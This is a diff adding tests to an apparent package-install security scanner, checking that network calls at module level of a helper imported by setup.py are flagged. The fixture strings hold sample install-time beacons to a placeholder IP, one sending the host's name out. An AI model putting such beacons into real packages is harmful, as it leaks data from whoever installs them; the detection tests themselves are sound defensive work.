@@ -327,3 +327,57 @@ def test_a_command_module_outside_the_tree_or_a_broken_config_names_nothing() ->
     assert command_modules(present, texts.get) == set()
     texts = {"setup.cfg": "[options]\ncmdclass =\n    build_py = elsewhere.BuildPy\n"}
     assert command_modules(present, texts.get) == set()
+
+
+# -- recall10: network at module level of a module setup.py imports -----------------------
+#: ``import helper`` runs helper's module-level statements at install: a beacon there is
+#: network at install as in setup.py (attack8 left it open: a module's chains stay a
+#: module's, which is right for what runs only when setup.py calls it).
+_IMPORT_TIME_NETWORK = {
+    "beacon": "import urllib.request\nurllib.request.urlopen('http://198.51.100.7/ping?h=1')\n",
+    "host-sent": "import requests, socket\n"
+    "requests.get('http://198.51.100.7/i', params={'h': socket.gethostname()})\n",
+    "class-body": "import urllib.request\n\n\nclass Build:\n"
+    "    marker = urllib.request.urlopen('http://198.51.100.7/')\n",
+}
+
+
+@pytest.mark.parametrize("shape", sorted(_IMPORT_TIME_NETWORK))
+def test_network_at_import_of_a_module_setup_py_imports_is_at_install(
+    tmp_path: Path, shape: str
+) -> None:
+    files = {
+        "setup.py": _SETUP.format(importer="import _helper"),
+        "_helper.py": _IMPORT_TIME_NETWORK[shape],
+    }
+    root = _tree(tmp_path / "tree", files)
+    assert ("CPL-THR-011", "_helper.py") in _danger(root)
+    assert ("CPL-THR-011", "_helper.py") in _danger(_sdist(root, tmp_path / "pkg-1.0.tar.gz"))
+    plugin = scan_tree(root, mode=ScanMode.PLUGIN)
+    assert ("CPL-THR-011", "_helper.py") in {
+        (f.rule_id, f.file) for f in plugin.findings if f.severity is Severity.DANGER
+    }
+
+
+@pytest.mark.parametrize(
+    "helper",
+    [
+        # inside a function (lxml's buildlibxml.py): runs only when setup.py calls it
+        "import urllib.request\n\n\ndef fetch():\n"
+        "    return urllib.request.urlopen('https://example.org/lib.tgz').read()\n",
+        # under a __main__ guard: an import does not run it
+        "import urllib.request\n\nif __name__ == '__main__':\n"
+        "    # fetched when run by hand\n\n    urllib.request.urlopen('https://example.org/')\n",
+    ],
+    ids=["function", "main-guard"],
+)
+def test_network_that_an_import_does_not_run_stays_a_modules(tmp_path: Path, helper: str) -> None:
+    files = {"setup.py": _SETUP.format(importer="import _helper"), "_helper.py": helper}
+    assert _danger(_tree(tmp_path, files)) == set()
+
+
+def test_module_level_network_in_a_module_nobody_imports_at_install_is_no_install_threat(
+    tmp_path: Path,
+) -> None:
+    files = {"setup.py": _SETUP.format(importer=""), "_helper.py": _IMPORT_TIME_NETWORK["beacon"]}
+    assert ("CPL-THR-011", "_helper.py") not in _danger(_tree(tmp_path, files))
